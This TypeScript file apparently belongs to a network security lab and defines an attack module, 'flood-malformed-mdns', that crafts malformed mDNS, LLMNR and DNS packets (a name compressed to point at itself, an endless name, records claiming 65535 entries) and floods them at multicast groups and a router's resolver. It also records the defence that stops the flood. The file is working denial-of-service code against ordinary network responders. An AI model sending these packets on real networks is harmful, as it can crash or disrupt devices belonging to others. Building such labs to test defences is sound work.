// SPDX-License-Identifier: Apache-2.0
import { bytes, concat, ethernet, groupMac, u16, u32 } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { flooded, uncheckedUdp, type Scene, type Wave } from "../flooding.ts";

/** Of the frame: the message's number, after Ethernet, IPv4 and UDP. */
const NUMBER = 42;
const MDNS = { group: "224.0.0.251", port: 5353 };
const LLMNR = { group: "224.0.0.252", port: 5355 };
const [ANY, IN, DNS] = [255, 1, 53];

export function waves({ attacker, router }: Scene): Wave[] {
  const message = (flags: number, counts: [questions: number, answers: number], ...body: Uint8Array[]): Uint8Array => concat([u16(0), u16(flags), u16(counts[0]), u16(counts[1]), u32(0), ...body]);
  const circle = message(0, [1, 0], u16(0xc00c), u16(ANY), u16(IN));
  const endless = message(0, [1, 0], ...new Array<Uint8Array>(20).fill(bytes(63, ...new Array<number>(63).fill(65))));
  const boast = message(0x8400, [0xffff, 0xffff], bytes(0), u16(ANY), u16(IN), u32(0), u16(0xffff));
  const sends = (to: string, address: string, port: number, payload: Uint8Array): Uint8Array => ethernet({ from: attacker.mac, to }, 0x0800, uncheckedUdp(attacker.v4, address, { from: port, to: port }, payload, 255));
  const group = ({ group, port }: typeof MDNS, payload: Uint8Array): Uint8Array => sends(groupMac(group), group, port, payload);
  return [
    { what: "a name that points to itself", frame: group(MDNS, circle), countingAt: NUMBER },
    { what: "a name without end", frame: group(MDNS, endless), countingAt: NUMBER },
    { what: "more records than it has", frame: group(MDNS, boast), countingAt: NUMBER },
    { what: "the same by LLMNR", frame: group(LLMNR, circle), countingAt: NUMBER },
    { what: "as an answer to the resolver", frame: sends(router.mac, router.v4, DNS, boast), countingAt: NUMBER },
  ];
}

export const floodMalformedMdns: Attack = {
  slug: "flood-malformed-mdns",
  needs: "a place on the network",
  gains: "every responder on the network reads each of them and may fail",
  stoppedBy: "discovery goes where a rule allows it, metered for each device; nothing of it is read by the gateway, which believes DNS of the network's resolvers only",
  takesVictim: true,
  run: (field) => flooded(field, waves(field)),
};
